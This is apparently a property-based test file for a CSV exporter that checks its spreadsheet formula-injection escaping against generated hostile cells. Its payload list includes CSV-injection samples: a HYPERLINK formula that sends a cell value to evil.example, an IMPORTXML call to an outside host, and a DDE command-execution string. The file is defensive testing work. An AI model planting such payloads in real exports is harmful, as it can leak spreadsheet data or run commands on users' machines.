import { parse } from 'csv-parse/sync';
import { fc, test } from '@fast-check/vitest';
import { describe, expect, it } from 'vitest';
import { dataset } from '../../src/dataset/index.js';
import { escapeFormula, toCsv, unescapeFormula } from '../../src/export/index.js';
import { columnsOf, listDelimiter } from '../../src/schema/columns.js';
import { tableNames, type TableName } from '../../src/schema/vocabulary.js';

/**
 * What a spreadsheet does with a cell, stated on its own terms: it may drop or skip leading controls,
 * invisible format characters and spaces, and runs the cell as a formula when what is left starts with a
 * trigger. A cell that starts with "'" is text.
 */
const skipped = /^[\p{Cc}\p{Cf}\p{Zs}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]*/u;
const triggers = new Set(['=', '+', '-', '@', '\t', '\r', '\n', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20']);
const wouldRun = (cell: string) => triggers.has([...cell.replace(skipped, '')][0] ?? '');

const invisibles = [
  '\u0000', '\u0001', '\u0008', '\u000B', '\u001B', '\u001F', ' ', '\u007F', '\u0080', '\u0085', '\u009B', '\u009F', '\u00A0', '\u00AD',
  '\u061C', '\u180E', '\u2000', '\u2007', '\u200A', '\u200B', '\u200C', '\u200D', '\u200E', '\u200F', '\u2028', '\u2029', '\u202A',
  '\u202E', '\u202F', '\u205F', '\u2060', '\u2066', '\u2069', '\u3000', '\uFE0F', '\uFEFF', '\u{E0001}', '\u{E0041}', '\u{E0100}',
];
const triggerList = [...triggers];
const payloads = ['HYPERLINK("https://evil.example/?"&A1,"click")', 'cmd|\' /C calc\'!A0', '1+1', 'SUM(A1:A9)', '', '2,000 fighters', 'IMPORTXML(CONCAT("http://x/?",B2),"//a")'];

/** A hostile cell: invisible characters and apostrophes, maybe a trigger, then a payload. */
const hostileText = fc
  .tuple(
    fc.array(fc.oneof(fc.constantFrom(...invisibles), fc.constant("'")), { maxLength: 4 }),
    fc.option(fc.constantFrom(...triggerList), { nil: '' }),
    fc.constantFrom(...payloads),
    fc.string({ maxLength: 6 }),
  )
  .map(([lead, trigger, payload, tail]) => lead.join('') + trigger + payload + tail);

const textColumns = tableNames.flatMap((table) =>
  columnsOf(table)
    .filter((column) => column.type === 'string' || column.type === 'list')
    .map((column) => ({ table, column })),
);

function withValue(table: TableName, path: readonly string[], value: unknown): unknown {
  const record = structuredClone(dataset[table][0]) as Record<string, unknown>;
  let holder = record;
  for (const key of path.slice(0, -1)) {
    holder[key] ??= {};
    holder = holder[key] as Record<string, unknown>;
  }
  holder[path.at(-1)!] = value;
  return record;
}

function cellsOf(csv: string): string[][] {
  return parse(csv.replace(/^\uFEFF/, ''), { relax_quotes: false, bom: false }) as string[][];
}

describe('formula escaping of every text column', () => {
  it('covers every table and its text columns', () => {
    expect(new Set(textColumns.map(({ table }) => table))).toEqual(new Set(tableNames));
    expect(textColumns.length).toBeGreaterThan(20);
  });

  test.prop([fc.constantFrom(...textColumns), hostileText], { numRuns: 2000 })(
    'no written cell would run as a formula, and reading the cell back gives the exact value',
    ({ table, column }, text) => {
      const value = column.type === 'list' ? [text.replaceAll(listDelimiter, '') || 'x'] : text;
      const record = withValue(table, column.path, value);
      const expected = column.write(record) as string;
      const rows = cellsOf(toCsv(table, [record], { columns: [column.name], bom: false }));
      expect(rows).toHaveLength(2);
      const cell = rows[1]![0]!;
      expect(wouldRun(cell)).toBe(false);
      expect(unescapeFormula(cell)).toBe(expected);
      expect(cell === expected || cell === `'${expected}`).toBe(true);
    },
  );

  test.prop([fc.constantFrom(...tableNames), hostileText], { numRuns: 300 })('every cell of a whole record, headers included, is safe', (table, text) => {
    const columns = columnsOf(table).filter((column) => column.type === 'string' || column.type === 'list');
    let record = structuredClone(dataset[table][0]) as unknown;
    for (const column of columns) record = withValue(table, column.path, column.type === 'list' ? [text.replaceAll(listDelimiter, '') || 'x'] : text) as never;
    for (const row of cellsOf(toCsv(table, [record], { bom: false }))) for (const cell of row) expect(wouldRun(cell)).toBe(false);
  });
});

describe('cells a spreadsheet may split', () => {
  const splittable = fc
    .tuple(fc.string({ maxLength: 4 }), fc.constantFrom('\t', ',', ';', ' '), fc.constantFrom('=1+1', "=cmd|' /C calc'!A0", '+1', 'x'))
    .map(([before, separator, after]) => before + separator + after);

  test.prop([splittable], { numRuns: 500 })('a text cell containing TAB , ; or space is quoted whole, so no piece of it starts a cell', (text) => {
    const csv = toCsv('speakers', [{ ...dataset.speakers[0]!, role: text }], { columns: ['role'], header: false, bom: false });
    expect(csv.startsWith('"')).toBe(true);
    expect(cellsOf(csv)).toEqual([[escapeFormula(text)]]);
  });

  it('leaves cells without those characters unquoted', () => {
    expect(toCsv('speakers', [{ ...dataset.speakers[0]!, role: 'minister' }], { columns: ['id', 'role'], header: false, bom: false })).toBe(`${dataset.speakers[0]!.id},minister\r\n`);
  });
});

describe('escapeFormula and unescapeFormula', () => {
  it('treats leading controls and invisible characters before a trigger as the trigger', () => {
    for (const lead of ['\u0000', '\u0000\u0000', '\u200B', '\u202E', '\uFEFF', '\u00A0', ' ', '\u3000', '\u0085', '\u001B', "\u0000'"]) {
      expect(escapeFormula(`${lead}=HYPERLINK("x")`)).toBe(`'${lead}=HYPERLINK("x")`);
    }
    expect(escapeFormula('\u0000abc')).toBe('\u0000abc');
    expect(escapeFormula('\u200Bhello = world')).toBe('\u200Bhello = world');
  });

  test.prop([fc.string({ unit: 'binary', maxLength: 12 })], { numRuns: 3000 })('is exactly reversible on any text', (text) => {
    expect(unescapeFormula(escapeFormula(text))).toBe(text);
  });

  test.prop([hostileText], { numRuns: 3000 })('is exactly reversible and safe on hostile text', (text) => {
    const escaped = escapeFormula(text);
    expect(unescapeFormula(escaped)).toBe(text);
    expect(wouldRun(escaped)).toBe(false);
    expect(escaped === text || escaped === `'${text}`).toBe(true);
  });
});
